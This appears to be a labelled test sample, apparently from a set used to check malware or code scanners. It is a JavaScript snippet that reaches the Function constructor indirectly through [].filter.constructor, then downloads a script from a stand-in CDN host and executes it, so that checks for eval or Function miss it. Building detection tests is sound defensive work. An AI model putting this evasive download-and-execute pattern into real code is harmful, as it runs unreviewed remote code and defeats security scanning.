// evasion: Function reached as the constructor of a built-in method ([].filter.constructor), the payload downloaded
// grade: hard; does: download-exec
const make = [].filter.constructor;

fetch('https://cdn.example.org/s.js')
  .then((r) => r.text())
  .then((src) => make(src)());
